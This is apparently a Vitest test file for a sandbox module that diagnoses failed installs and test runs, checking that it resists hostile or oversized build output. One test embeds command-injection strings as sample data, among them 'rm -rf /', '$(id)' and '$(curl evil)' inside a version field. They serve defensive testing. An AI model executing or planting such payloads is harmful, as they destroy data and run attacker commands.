import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { diagnose, type Diagnosis, type Failed } from '../../../src/sandbox/environment/diagnosis.ts';

const PRINTED = new URL('printed/', import.meta.url);
const recordings = readdirSync(PRINTED).map((file) => readFileSync(new URL(file, PRINTED), 'utf8'));

function diagnosed(output: string, more: Partial<Failed> = {}): Diagnosis {
  const failed: Failed = { phase: 'tests', output, exitCode: 1, ending: 'exited', refusedHosts: [], ...more };
  return diagnose(failed, { systemPackages: [], runtimes: [] });
}

/** What of a diagnosis could do harm: words, names and ranges in another form than they have to be. */
function harmIn(diagnosis: Diagnosis): string[] {
  const { because } = diagnosis;
  const isLegible = because.length < 1000 && !/[\p{Cc}\p{Cf}]/u.test(because);
  const packages = 'packages' in diagnosis ? diagnosis.packages : [];
  const wants = 'need' in diagnosis ? diagnosis.need.wants : '*';
  const host = ('host' in diagnosis && diagnosis.host) || 'none';
  return [
    ...(isLegible ? [] : [because]),
    ...packages.filter((name) => !/^[a-z0-9][a-z0-9+.-]*$/.test(name)),
    ...(/^(?:\*|[\d.<>=^~| ]{1,200})$/.test(wants) ? [] : [wants]),
    ...(/^[a-z0-9.-]{1,300}$/.test(host) ? [] : [host]),
  ];
}

/** Numbers that look like chance, and are the same each time. */
function createDice(seed: number) {
  let state = seed;
  return (sides: number): number => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * sides);
  };
}

describe('hostile output', () => {
  const MIB = 1024 * 1024;

  it.each([
    ['one endless line', 'a'.repeat(8 * MIB)],
    ['endless empty lines', '\n'.repeat(8 * MIB)],
    ['endless carriage returns', '\r'.repeat(8 * MIB)],
    ['lines of blanks', ' \n'.repeat(4 * MIB)],
    ['nothing but blanks', ' '.repeat(8 * MIB)],
    ['beginnings of what is looked for', 'fatal error: '.repeat(MIB / 2)],
    ['beginnings in short lines', "Cannot find module '\n".repeat(MIB / 4)],
    ['beginnings of registries', 'npm error 404 error https://a.b '.repeat(MIB / 8)],
    ['endless hosts', 'getaddrinfo a.a.a.a.a.a.a.a.a.a.a.a.a.a.'.repeat(MIB / 8)],
    ['endless versions', '1.1.1.1.1.1 || '.repeat(MIB / 4)],
    ['endless dashes', '-'.repeat(600).concat('\n').repeat(4000)],
    ['pnpm boxes', `ERR_PNPM_X\n${'  │   more\n'.repeat(MIB / 4)}`],
    ['open terminal codes', '\u001B]0;'.repeat(MIB)],
    ['half of a surrogate', '\uD800'.repeat(MIB)],
    ['requirements without an end', 'requires php ^'.repeat(MIB / 4)],
    ['tracebacks of match statements', '\n  match x:\n'.repeat(MIB / 8)],
    ['headers by the thousand', 'a.c:1:1: fatal error: ffi.h: No such file\n'.repeat(MIB / 16)],
    ['what looks like ranges', `npm error notsup Required: {"node":"${'>='.repeat(MIB)}"}`],
  ])('of %s is read to its end', (_name, output) => {
    for (const phase of ['install', 'tests'] as const)
      expect(harmIn(diagnosed(output, { phase }))).toEqual([]);
  });

  it('names no package, host or version in its own words', () => {
    const packages = diagnosed(
      'bash: line 1: rm$(id): command not found\nfatal error: ../../ffi.h; rm -rf /: No such file',
    );
    expect(packages).toMatchObject({ kind: 'unknown' });
    const version = diagnosed(
      'npm error code EBADENGINE\nnpm error notsup Required: {"node":"$(curl evil)"}',
      { phase: 'install' },
    );
    expect(version.kind).not.toBe('runtime');
  });

  it('of recordings cut, mixed and damaged by chance stays harmless', () => {
    const dice = createDice(5);
    const noise = ['\u0000', '\u202E', '\n', '\r', '"', "'", '`', '$(', '\\', '│', '{', '['];
    for (let round = 0; round < 300; round++) {
      const text = Array.from({ length: 1 + dice(4) }, () => {
        const recording = recordings[dice(recordings.length)]!;
        const from = dice(recording.length);
        const at = dice(recording.length);
        const cut = recording.slice(from, from + dice(2000));
        return cut.slice(0, at) + noise[dice(noise.length)]! + cut.slice(at);
      }).join('');
      expect(harmIn(diagnosed(text, { phase: dice(2) === 0 ? 'install' : 'tests' }))).toEqual([]);
    }
  });

  it('hides a cause neither in colours nor behind a hundred thousand lines', () => {
    const cause = '\u001B[31mbash: line 1: \u001B[1mcmake\u001B[0m: command not found\r\n';
    const noise = 'all is well\n'.repeat(100_000);
    for (const output of [cause + noise, noise + cause])
      expect(diagnosed(output)).toMatchObject({ kind: 'system-package', packages: ['cmake'] });
  });
});

describe('how it ended says more than what it printed', () => {
  it.each([
    ['timed-out', 'time'],
    ['out-of-memory', 'memory'],
  ] as const)('%s', (ending, limit) => {
    expect(diagnosed('sh: 1: cmake: not found', { ending, exitCode: null })).toMatchObject({
      kind: 'limit',
      limit,
    });
  });

  it('but for an installation that waited for a host', () => {
    const output = 'npm error network request to https://a.example.org/x failed, reason: connect ETIMEDOUT';
    const failed = { ending: 'timed-out', exitCode: null, phase: 'install' } as const;
    expect(diagnosed(output, failed)).toMatchObject({ kind: 'network', host: 'a.example.org' });
  });

  it.each([
    ['disk', 'error An unexpected error occurred: "ENOSPC: no space left on device, write".'],
    ['disk', 'OSError: [Errno 28] No space left on device'],
    ['memory', 'c++: fatal error: Killed signal terminated program cc1plus'],
    ['processes', 'bash: fork: retry: Resource temporarily unavailable'],
    ['processes', 'java.lang.OutOfMemoryError: unable to create native thread'],
  ])('%s: %s', (limit, output) => {
    expect(diagnosed(output)).toMatchObject({ kind: 'limit', limit });
  });

  it('takes too many watched files for no full disk', () => {
    const output = 'Error: ENOSPC: System limit for number of file watchers reached';
    expect(diagnosed(output).kind).toBe('unknown');
  });
});

describe('where nothing is understood', () => {
  it('quotes the lines that tell most', () => {
    const output = 'building\nall fine here\nerror: the frob is not a widget\n    at frob (a.js:1:1)\n';
    expect(diagnosed(output)).toEqual({
      kind: 'unknown',
      because: 'It said: “error: the frob is not a widget”',
    });
    expect(diagnosed('').because).toBe('It said nothing.');
  });

  it('blames a host that was refused, unless it were tests', () => {
    const refusedHosts = ['cdn.example.org'];
    expect(diagnosed('It did not work.', { phase: 'scripts', refusedHosts })).toMatchObject({
      kind: 'network',
      host: 'cdn.example.org',
      refused: true,
    });
    expect(diagnosed('It did not work.', { refusedHosts }).kind).toBe('unknown');
  });
});
